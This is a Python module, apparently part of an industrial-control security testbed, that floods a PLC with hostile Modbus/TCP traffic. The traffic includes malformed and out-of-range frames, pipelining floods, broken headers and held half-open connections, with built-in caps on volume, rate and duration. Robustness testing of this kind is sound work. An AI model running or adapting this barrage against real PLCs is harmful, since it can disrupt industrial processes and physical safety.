"""A bounded barrage of hostile Modbus/TCP frames against one PLC.

Run inside the attacker host::

    python -m attacks.modbus_fuzz --plan PLAN.json --targets 10.0.0.21 --out fuzz.json \\
        [--port 502] [--frames 30000] [--rate-fps 4000] [--max-s 15] [--half-open 200] \\
        [--seed 1] [--map tank|pressure]

What it sends (frames from :mod:`attacks.modbus_frames`, seeded):

- half of the frames on *kept* connections, in bursts: unknown function codes, reads and
  writes out of range or with lying byte counts, wrong unit ids (each must get a 9-byte
  exception reply); now and then a pipelining flood (more frames at once than a PLC queues);
- half on *killed* connections: one connection per frame of random bytes, a truncated
  MBAP header, a lying length field or a bad protocol id, then close;
- ``--half-open`` connections opened first and held to the end, silent or mid-header.

Bounded by ``--frames`` (count) and ``--max-s`` (time), paced at ``--rate-fps``. It changes
nothing on the host; every socket it opened is closed on exit, SIGTERM included. The
library part (:class:`BarrageConfig`, :func:`run_barrage`) does no namespace check, so the
loopback unit test drives it directly against 127.0.0.1.

What it cannot do: check whether a reply is the *right* exception (only that bytes came
back), or fuzz below TCP (use ``attacks.synflood`` for that).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import random
import time
from collections.abc import Sequence
from dataclasses import dataclass, field

from attacks.barrage import BarrageCounts, BarrageLimits, BarrageOutcome, OnePortBarrage
from attacks.modbus_frames import (
    bad_content_frame,
    bad_framing,
    partial_header,
    table_sizes_of,
)
from common.cli import int_in
from common.modbus import EXCEPTION_REPLY_BYTES, MODBUS_PORT
from plc.registers import MAPS, Table

DEFAULT_FRAMES = 30_000
DEFAULT_RATE_FPS = 4_000.0
DEFAULT_MAX_S = 15.0
DEFAULT_HALF_OPEN = 200
# Hard ceilings whatever the flags say: the barrage must stay a bounded test, not a DoS tool.
MAX_FRAMES = 1_000_000
MAX_RATE_FPS = 50_000.0
MAX_DURATION_S = 600.0
MAX_HALF_OPEN = 1_000
LIMITS = BarrageLimits(frames=DEFAULT_FRAMES, max_frames=MAX_FRAMES,
                       rate_fps=DEFAULT_RATE_FPS, max_rate_fps=MAX_RATE_FPS,
                       max_s=DEFAULT_MAX_S, max_duration_s=MAX_DURATION_S)
KEEPING_WORKERS = 4
KILLING_WORKERS = 8
BURST = 16
FLOOD_PROBABILITY = 0.02
FLOOD_FACTOR = 4
CONNECT_TIMEOUT_S = 2.0
REPLY_TIMEOUT_S = 1.0
PACE_SLEEP_S = 0.005
TIMELINE_PERIOD_S = 0.5


@dataclass(frozen=True)
class BarrageConfig:
    """One barrage: where, how many frames, how fast, how long.

    frames: total frames to send (half on kept, half on killed connections); the barrage
        stops at whichever of ``frames`` and ``max_s`` comes first.
    rate_fps: frames per second the pacing never exceeds.
    half_open: connections opened first and held, silent or mid-header, until the end.
    table_sizes: entries per table of the target's map (out-of-range requests aim past it).
    """

    host: str
    port: int = MODBUS_PORT
    frames: int = DEFAULT_FRAMES
    rate_fps: float = DEFAULT_RATE_FPS
    max_s: float = DEFAULT_MAX_S
    half_open: int = DEFAULT_HALF_OPEN
    seed: int = 1
    keeping_workers: int = KEEPING_WORKERS
    killing_workers: int = KILLING_WORKERS
    burst: int = BURST
    table_sizes: dict[Table, int] = field(default_factory=table_sizes_of)


@dataclass
class BarrageStats(BarrageCounts):
    """The Modbus barrage's counts: :class:`~attacks.barrage.BarrageCounts` (reply_bytes: on
    kept connections; exception_replies = reply_bytes // 9, every exception reply is 9 bytes)
    plus:

    half_open_held: connections held open, silent or mid-header, to the end.
    dropped_by_target: kept connections the target closed or left unanswered.
    timeline: samples ``{"t_s", "frames", "connections"}`` every TIMELINE_PERIOD_S.
    """

    half_open_held: int = 0
    dropped_by_target: int = 0
    timeline: list[dict[str, float]] = field(default_factory=list)

    @property
    def exception_replies(self) -> int:
        return self.reply_bytes // EXCEPTION_REPLY_BYTES

    def to_dict(self) -> dict:
        out = super().to_dict()
        out["exception_replies"] = self.exception_replies
        return out


async def _connect(cfg: BarrageConfig, stats: BarrageStats
                   ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    try:
        pair = await asyncio.wait_for(asyncio.open_connection(cfg.host, cfg.port),
                                      CONNECT_TIMEOUT_S)
    except (OSError, TimeoutError, asyncio.TimeoutError):
        stats.connect_failures += 1
        return None
    stats.connections += 1
    return pair


async def run_barrage(cfg: BarrageConfig, stats: BarrageStats | None = None) -> BarrageStats:
    """Send the barrage of ``cfg``; returns (and fills, when given) ``stats``.

    All sockets are closed before this returns, also when it is cancelled or interrupted.
    """
    stats = stats if stats is not None else BarrageStats()
    start_s = time.monotonic()
    deadline_s = start_s + cfg.max_s
    keep_share = cfg.frames // 2
    kill_share = cfg.frames - keep_share
    sent = {"keep": 0, "kill": 0}
    writers: list[asyncio.StreamWriter] = []

    async def more(lane: str, share: int) -> bool:
        while stats.frames > cfg.rate_fps * (time.monotonic() - start_s):
            await asyncio.sleep(PACE_SLEEP_S)
        return time.monotonic() < deadline_s and sent[lane] < share

    async def sample() -> None:
        while True:
            stats.timeline.append({"t_s": round(time.monotonic() - start_s, 3),
                                   "frames": stats.frames, "connections": stats.connections})
            await asyncio.sleep(TIMELINE_PERIOD_S)

    async def keeping(worker: int) -> None:
        rng = random.Random(cfg.seed * 100 + worker)
        pair = None
        tid = 0
        while await more("keep", keep_share):
            if pair is None:
                pair = await _connect(cfg, stats)
                if pair is None:
                    continue
                writers.append(pair[1])
            reader, writer = pair
            flood = rng.random() < FLOOD_PROBABILITY
            burst = b"".join(bad_content_frame(rng, (tid := tid + 1) & 0xFFFF,
                                               cfg.table_sizes) for _ in range(cfg.burst))
            n = cfg.burst * (FLOOD_FACTOR if flood else 1)
            writer.write(burst * (FLOOD_FACTOR if flood else 1))
            sent["keep"] += n
            stats.count("pipelining_flood" if flood else "bad_content", n)
            got = 0
            try:
                while got < EXCEPTION_REPLY_BYTES * cfg.burst:
                    chunk = await asyncio.wait_for(reader.read(65536), REPLY_TIMEOUT_S)
                    if not chunk:
                        break
                    got += len(chunk)
            except (TimeoutError, asyncio.TimeoutError, OSError):
                pass
            stats.reply_bytes += got
            if got < EXCEPTION_REPLY_BYTES * cfg.burst or flood:
                if not flood:
                    stats.dropped_by_target += 1
                writer.close()
                pair = None

    async def killing(worker: int) -> None:
        rng = random.Random(cfg.seed * 1000 + worker)
        while await more("kill", kill_share):
            pair = await _connect(cfg, stats)
            if pair is None:
                continue
            _reader, writer = pair
            writer.write(bad_framing(rng))
            sent["kill"] += 1
            stats.count("bad_framing")
            with contextlib.suppress(OSError):
                await writer.drain()
            writer.close()

    sampler = asyncio.get_running_loop().create_task(sample())
    try:
        for i in range(cfg.half_open):
            if time.monotonic() >= deadline_s:
                break
            pair = await _connect(cfg, stats)
            if pair is None:
                continue
            writers.append(pair[1])
            stats.half_open_held += 1
            if i % 2:
                pair[1].write(partial_header(i))
                stats.count("half_open_partial_header")
        await asyncio.gather(*(keeping(i) for i in range(cfg.keeping_workers)),
                             *(killing(i) for i in range(cfg.killing_workers)))
    finally:
        sampler.cancel()
        for writer in writers:
            writer.close()
        stats.duration_s = round(time.monotonic() - start_s, 3)
        stats.timeline.append({"t_s": stats.duration_s, "frames": stats.frames,
                               "connections": stats.connections})
    return stats


# --- CLI --------------------------------------------------------------------------------
@dataclass(kw_only=True)
class FuzzOutcome(BarrageOutcome):
    """The fuzz outcome: :class:`BarrageOutcome` (barrage: :class:`BarrageStats` as a dict).

    host_changes: what the attack changed on the host (always empty: it only opens sockets).
    """

    host_changes: list[str] = field(default_factory=list)


def _add_options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--half-open", type=int_in(0, MAX_HALF_OPEN),
                        default=DEFAULT_HALF_OPEN, help="connections held open to the end")
    parser.add_argument("--map", choices=sorted(MAPS), default="tank",
                        help="register map whose table ends the out-of-range frames aim past")


def _send(args: argparse.Namespace, target: str, stats: BarrageStats) -> None:
    cfg = BarrageConfig(host=target, port=args.port, frames=args.frames,
                        rate_fps=args.rate_fps, max_s=args.max_s, half_open=args.half_open,
                        seed=args.seed, table_sizes=table_sizes_of(MAPS[args.map]))
    asyncio.run(run_barrage(cfg, stats))


ATTACK = OnePortBarrage(attack="modbus_fuzz", port=MODBUS_PORT, limits=LIMITS,
                        description="A bounded barrage of hostile Modbus/TCP frames against "
                                    "one PLC.",
                        new_stats=BarrageStats, send=_send, add_options=_add_options,
                        outcome=FuzzOutcome)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the barrage; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return ATTACK.main(argv)


if __name__ == "__main__":
    raise SystemExit(main())
